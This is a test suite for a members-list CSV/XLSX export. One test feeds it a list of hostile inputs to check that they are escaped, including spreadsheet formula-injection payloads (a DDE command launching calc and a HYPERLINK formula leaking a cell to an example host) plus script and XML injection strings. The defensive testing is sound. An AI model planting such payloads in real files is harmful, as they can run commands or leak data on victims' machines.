import { gunzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { columns, type Sort } from '../../src/members/list-state.ts'
import type { Db } from '../../src/platform/database/connect.ts'
import { newId } from '../../src/platform/ids.ts'
import type { Browser } from '../support/browser.ts'
import { freshDatabase } from '../support/database.ts'
import { addPerson, days, makeCustomRole, makeGroup, makeRegion, organization } from '../support/world.ts'
import { csvRows, sheetRows, unzip } from './sheet.ts'

const heading = [
  'First name',
  'Last name',
  'Email',
  'Username',
  'Title',
  'Status',
  'Organization role',
  'Custom roles',
  'Group',
  'Region',
  'Area',
  'Cell phone',
  'Office phone',
  'Extension',
  'Two-factor',
  'Last active',
  'Invite status',
  'Start date',
  'End date',
]

const csvOf = async (browser: Browser, query = '') => {
  const answer = await browser.get(`members.csv${query}`)
  expect(answer.status).toBe(200)
  return csvRows(answer.html)
}
const sheetOf = async (browser: Browser, query = '') => {
  const answer = await browser.get(`members.xlsx${query}`)
  expect(answer.status).toBe(200)
  return sheetRows(unzip(answer.bytes).get('xl/worksheets/sheet1.xml'))
}
const records = (rows: string[][]) =>
  rows.slice(1).map((row) => Object.fromEntries(row.map((cell, n) => [rows[0]?.[n], cell])))

const downloads = (db: Db, organizationId: string) =>
  db
    .selectFrom('event')
    .where('organization_id', '=', organizationId)
    .where('act', '=', 'members.downloaded')
    .selectAll()
    .orderBy('id')
    .execute()

test('a stranger gets 404, those without the permission 403, and nothing is noted of either', async () => {
  const { stella, vera, gus, mia, stranger, here, db } = await organization()
  for (const file of ['members.csv', 'members.xlsx'])
    for (const method of ['GET', 'HEAD']) {
      expect((await stella.send(method, `/o/${here.slug}/${file}`)).status).toBe(404)
      for (const browser of [vera, gus, mia]) expect((await browser.send(method, file)).status).toBe(403)
      expect((await stranger.send(method, file)).location).toBe('/sign-in')
    }
  expect((await gus.get('members.csv')).text).toContain('Download members')
  expect(await downloads(db, here.id)).toEqual([])
})

test('nobody gets more from the file than from the screen', async () => {
  const { here, intake, enter, add } = await organization()
  const manager = await enter({ first: 'Gil', group: intake, manages: true, permissions: ['members.download'] })
  const blind = await enter({ first: 'Bo', permissions: ['members.download'] })
  await add({ first: 'Other', group: here.defaultGroup })
  expect(records(await csvOf(manager)).map((row) => row.Group)).toEqual(['Intake', 'Intake', 'Intake'])
  expect(await csvOf(manager, `?group=${here.defaultGroup}`)).toEqual([heading])
  expect((await sheetOf(manager, `?group=${here.defaultGroup}`)).length).toBe(1)
  expect((await blind.get('members.csv')).status).toBe(403)
  const all = await manager.get('members.csv')
  expect(all.html).not.toContain('Canary')
})

test('each column says what the screen says', async () => {
  const { here, ana, add, db, clock } = await organization()
  const { id: region, areas } = await makeRegion(db, here.id, 'North', ['Coast'])
  const scribe = await makeCustomRole(db, here.id, 'Scribe')
  const auditor = await makeCustomRole(db, here.id, 'Auditor, "chief"')
  const quiet = { role: 'member' as const, title: 'T-Q' }
  const full = await add({
    first: 'Zoë',
    last: 'Quist',
    title: 'T-Q, "claims"',
    username: `zoe.${newId()}`,
    region,
    area: areas[0],
    customRoles: [scribe, auditor],
    twoFactor: true,
    lastActive: new Date('2026-11-21T09:08:07.654Z'),
    startsOn: '2026-01-02',
    endsOn: '2026-12-31',
  })
  await db
    .updateTable('membership')
    .set({ cell_phone: '555 1', office_phone: '+1 555 2', extension: '007' })
    .where('organization_id', '=', here.id)
    .where('id', '=', full.id)
    .execute()
  const hour = 3_600_000
  await add({ first: 'B', last: 'Q1', invited: true, inviteExpires: new Date(clock.now.getTime() + hour), ...quiet })
  await add({ first: 'C', last: 'Q2', invited: true, inviteExpires: clock.now, ...quiet })
  await add({ first: 'D', last: 'Q3', startsOn: '2026-11-23', invite: 'active', ...quiet })
  await add({ first: 'E', last: 'Q4', removed: true, ...quiet })
  const rows = await csvOf(ana)
  expect(rows[0]).toEqual(heading)
  const found = records(rows).filter((row) => row.Title?.startsWith('T-Q'))
  expect(found[0]).toMatchObject({ 'Invite status': 'Pending activation', Status: 'Invited', Username: '' })
  expect(found[1]).toMatchObject({ 'Invite status': 'Invitation expired', Status: 'Invited' })
  expect(found[2]).toMatchObject({ 'Invite status': 'Active', Status: 'Not started', 'Start date': '2026-11-23' })
  expect(found[3]).toEqual({
    'First name': 'Zoë',
    'Last name': 'Quist',
    Email: full.email,
    Username: expect.stringContaining('zoe.'),
    Title: 'T-Q, "claims"',
    Status: 'Active',
    'Organization role': 'Member',
    'Custom roles': 'Auditor, "chief", Scribe',
    Group: 'Default',
    Region: 'North',
    Area: 'Coast',
    'Cell phone': '555 1',
    'Office phone': "'+1 555 2",
    Extension: '007',
    'Two-factor': 'On',
    'Last active': '2026-11-21T09:08:07Z',
    'Invite status': 'Added',
    'Start date': '2026-01-02',
    'End date': '2026-12-31',
  })
  expect(found.length).toBe(4)
  expect(records(await csvOf(ana, '?status=removed')).map((row) => row.Status)).toEqual(['Removed'])

  const sheet = await sheetOf(ana, '?q=quist')
  expect(sheet[0]?.map((cell) => [cell.text, cell.style])).toEqual(heading.map((label) => [label, 1]))
  const cells = Object.fromEntries(heading.map((label, n) => [label, sheet[1]?.[n]]))
  const day = (text: string) => Date.parse(text) / 86_400_000 + 25_569
  expect(cells['Custom roles']).toEqual({ text: 'Auditor, "chief", Scribe', number: null, style: 0 })
  expect(cells.Extension).toEqual({ text: '007', number: null, style: 0 })
  expect(cells['Office phone']?.text).toBe("'+1 555 2")
  expect(cells['Start date']).toEqual({ text: null, number: day('2026-01-02'), style: 2 })
  expect(cells['End date']).toEqual({ text: null, number: day('2026-12-31'), style: 2 })
  expect(cells['Last active']).toMatchObject({ text: null, style: 3 })
  expect(cells['Last active']?.number).toBeCloseTo(day('2026-11-21T09:08:07Z'), 8)
  const [, plain] = await sheetOf(ana, '?status=not_started')
  expect(plain?.[15]).toEqual({ text: null, number: null, style: 0 })
})

test('the file has the rows of every page of the list, in its order, whatever filter and sort', async () => {
  const { here, ana, add, db, clock, intake } = await organization()
  const other = await makeGroup(db, here.id, 'Älter & <co>')
  const role = await makeCustomRole(db, here.id, 'Role')
  const region = await makeRegion(db, here.id, 'North', ['Coast'])
  const open = ['pending_approval', 'pending_activation', 'rejected', 'revoked']
  for (let n = 0; n < 70; n++)
    await add({
      first: ['Zoë', 'ana', 'Émile', ''][n % 4],
      last: ['Berg', 'berg', 'Ødegård', '李', ''][n % 5],
      group: [here.defaultGroup, intake, other][n % 3],
      role: (['member', 'viewer', 'developer'] as const)[n % 3],
      customRoles: n % 6 === 0 ? [role] : [],
      region: n % 2 ? region.id : null,
      area: n % 4 === 1 ? region.areas[0] : null,
      twoFactor: n % 5 === 0 && n % 11 !== 0,
      lastActive: n % 7 ? new Date(clock.now.getTime() - days(n * 3)) : undefined,
      invited: n % 11 === 0,
      invite: n % 11 === 0 ? open[n % 4] : ['', 'active'][n % 2],
      inviteExpires: new Date(clock.now.getTime() + days((n % 5) - 2)),
      removed: n % 13 === 5,
      suspended: n % 17 === 3,
    })
  const listed = async (query: string) => {
    const emails: string[] = []
    for (let next: string | null = `members${query}`; next; ) {
      const { html } = await ana.get(next)
      for (const [, email = ''] of html.matchAll(/<td>([^<]*@[^<]*)<\/td>/g)) emails.push(email)
      next = /rel="next" href="([^"]+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&') ?? null
    }
    return emails
  }
  const filters = [
    '',
    'status=active&status=removed',
    'status=removed',
    'status=invited&two_factor=off',
    `role=viewer&role=${role}`,
    `group=${other}&q=berg`,
    `region=${region.id}&inactive=30`,
    `area=${region.areas[0]}`,
    'q=%27%22%5C%25_',
  ]
  const sorts = (Object.keys(columns) as Sort[]).flatMap((sort) => [sort, `-${sort}`])
  for (const [n, sort] of sorts.entries())
    for (const filter of [filters[0], filters[1], filters[1 + (n % 8)]]) {
      const query = `?${filter}&sort=${sort}`
      const wanted = await listed(query)
      expect([query, (await csvOf(ana, query)).slice(1).map((row) => row[2])]).toEqual([query, wanted])
      if (n % 4 === 0) expect((await sheetOf(ana, query)).slice(1).map((row) => row[2]?.text)).toEqual(wanted)
    }
  const [second] = (await ana.get('members')).html.match(/after=[^"&]+/) ?? []
  expect(await csvOf(ana, `?${second}`)).toEqual(await csvOf(ana))
}, 60_000)

/** What people, directories and attackers put into a name. NUL can't be stored. */
const nasty = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"Click")',
  '+1 555 0100',
  '-5',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "'",
  '"',
  '""',
  '","',
  '";=1+1',
  'x;=1+1;y',
  "x;=cmd|' /C calc'!A0;y",
  'x;"=1+1;y',
  'x;""+1;y',
  ';;@SUM(A1:A9);-1',
  'x;＝1+1;y',
  'a\t=1+1\tb',
  'a\n=1+1;b',
  'a\r\n-1+1;b',
  '\t;=1+1',
  'a;b; c - d; e=f',
  ',',
  ';',
  'a,b',
  'line\nbreak',
  'line\r\nbreak',
  'carriage\rreturn',
  'tab\tstop',
  ' leading',
  'trailing ',
  '  ',
  'two  spaces',
  '|',
  'a | b',
  '\\',
  '\\N',
  '\\.',
  '\\n',
  'C:\\new\\table',
  '&',
  '&amp;',
  '&#0;',
  '&#x1F600;',
  '<script>alert(1)</script>',
  '</t></is></c><c><f>1+1</f></c>',
  ']]>',
  '<![CDATA[x]]>',
  '<?xml?>',
  '_x0041_',
  '_x0041_x0042_',
  '_x005F_x0041_',
  '_x000d_',
  '__x0041__',
  '_x',
  'שלום עולם',
  'مرحبا',
  '\u202eRTL override',
  '😀👩‍👩‍👧‍👦',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'zero\u200bwidth\u200djoiner',
  '\ufeffbom',
  'e\u0301 combining',
  'Ωμέγα 李小龙 Ольга',
  '\u2028\u2029',
  '\u0085next',
  '\u007f',
  'TRUE',
  '1e5',
  '00123',
  '2026-11-22',
  '#REF!',
  'x'.repeat(32_767),
  `=${'x'.repeat(32_766)}`,
  'NULL',
]
const illegal = ['\u0001', 'bell\u0007', '\u000b\u000c', '\u001f\ufffe\uffff', '=\u0001\u0002']
const guarded = (text: string) => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text)

/** In CSV also where a spreadsheet would split that doesn't split at commas. */
const inCsv = (text: string) => guarded(text).replace(/([;\t\n\r])(?="*[=+\-@＝＋－＠])/g, "$1'")

test('naughty texts come back as they were, but for the mark that keeps a spreadsheet from calculating them', async () => {
  const { here, ana, db, clock } = await organization()
  const texts = [...nasty, ...illegal, '\u{1f600}'.repeat(20_000), `${'y'.repeat(40_000)}`]
  const group = await makeGroup(db, here.id, 'R&D <"=1">')
  for (const [n, text] of texts.entries()) {
    const { id } = await addPerson(db, here, clock.now, {
      first: 'Naughty',
      last: `N${String(n).padStart(3, '0')}`,
      group,
    })
    await db
      .updateTable('membership')
      .set({ title: text, first_name: `a${text.slice(0, 50)}`, cell_phone: text.slice(0, 98) })
      .where('organization_id', '=', here.id)
      .where('id', '=', id)
      .execute()
  }
  const file = await ana.get('members.csv?q=naughty')
  const rows = csvRows(file.html).slice(1)
  expect(rows.map((row) => row[4])).toEqual(texts.map(inCsv))
  expect(rows.map((row) => row[0])).toEqual(texts.map((text) => inCsv(`a${text.slice(0, 50)}`)))
  expect(rows.map((row) => row[11])).toEqual(texts.map((text) => inCsv(text.slice(0, 98))))
  // Whatever separates cells where it is opened, and whatever it makes of quotes: no cell begins as a formula does. Not opened in a
  // spreadsheet, since few machines that run this have one, and theirs (LibreOffice) asks what separates, and calculates nothing.
  for (const cell of file.html.split(/[;\t\r\n]/)) expect(cell.slice(0, 99)).not.toMatch(/^"*[=+\-@＝＋－＠]/)
  expect(new Set(rows.map((row) => row[8]))).toEqual(new Set(['R&D <"=1">']))

  const cells = (await sheetOf(ana, '?q=naughty')).slice(1)
  const shown = (text: string) => {
    const legal = guarded(text).replace(/[\ufffe\uffff]|[^\P{Cc}\t\n\r\x7f-\x9f]/gu, '')
    return legal.length <= 32_767 ? legal : null
  }
  for (const [n, text] of texts.entries()) {
    const cell = cells[n]?.[4]
    const found = cell?.text ?? ''
    // Not compared by expect itself: the difference between two such long texts takes it minutes.
    if (shown(text) !== null) expect([n, found === shown(text) || found.slice(0, 99)]).toEqual([n, true])
    else {
      expect(found.length).toBeLessThanOrEqual(32_767)
      expect(found.length).toBeGreaterThan(16_000)
      expect(guarded(text).startsWith(found)).toBe(true)
    }
    expect(cell?.number).toBeNull()
    expect(cells[n]?.[8]?.text).toBe('R&D <"=1">')
  }
})

test('the file is an attachment of its own type, never stored, and compressed for who takes that', async () => {
  const { ana, here } = await organization()
  const plain = await ana.get('members.csv')
  expect(Object.fromEntries(plain.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': `attachment; filename="${here.slug}-members-2026-11-22.csv"`,
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  })
  expect(plain.headers.get('content-encoding')).toBeNull()
  expect(plain.bytes.subarray(0, 10).toString()).toBe('First name')
  const packed = await ana.get('members.csv', { headers: { 'Accept-Encoding': 'br, gzip' } })
  expect(packed.headers.get('content-encoding')).toBe('gzip')
  expect(gunzipSync(packed.bytes)).toEqual(plain.bytes)
  const sheet = await ana.get('members.xlsx', { headers: { 'Accept-Encoding': 'br, gzip' } })
  expect(sheet.headers.get('content-encoding')).toBeNull()
  expect(sheet.headers.get('content-disposition')).toBe(`attachment; filename="${here.slug}-members-2026-11-22.xlsx"`)
  expect(sheet.headers.get('content-type')).toContain('spreadsheetml.sheet')
  expect([...unzip(sheet.bytes).keys()]).toContain('[Content_Types].xml')
})

test('HEAD answers without asking for the people, and leaves no event', async () => {
  const asked: string[] = []
  const database = await freshDatabase({ onQuery: (text) => asked.push(text) })
  const { ana, db, here } = await organization({ database })
  const whole = await ana.get('members.csv')
  asked.length = 0
  const head = await ana.send('HEAD', 'members.csv')
  expect([head.status, head.bytes.length]).toEqual([200, 0])
  for (const name of ['content-type', 'content-disposition', 'cache-control'])
    expect(head.headers.get(name)).toBe(whole.headers.get(name))
  expect(asked.filter((text) => text.startsWith('copy'))).toEqual([])
  expect((await downloads(db, here.id)).length).toBe(1)
  await database.close()
})

test('the log has each download with its format and filters, but not what was searched for', async () => {
  const { ana, db, here, intake } = await organization()
  await csvOf(ana, `?q=secretname&status=active&status=invited&two_factor=on&role=viewer&group=${intake}&inactive=90`)
  await sheetOf(ana)
  const events = await downloads(db, here.id)
  expect(events.map(({ changes }) => changes)).toEqual([
    {
      format: 'csv',
      filters: ['q', 'status', 'role', 'group', 'two_factor', 'inactive'],
      status: ['active', 'invited'],
      role: ['viewer'],
      group: [intake],
    },
    { format: 'xlsx', filters: [] },
  ])
  expect(events[0]).toMatchObject({ actor_id: ana.person.accountId, how: 'screen', subject: 'organization' })
  expect(JSON.stringify(events)).not.toContain('secretname')
})
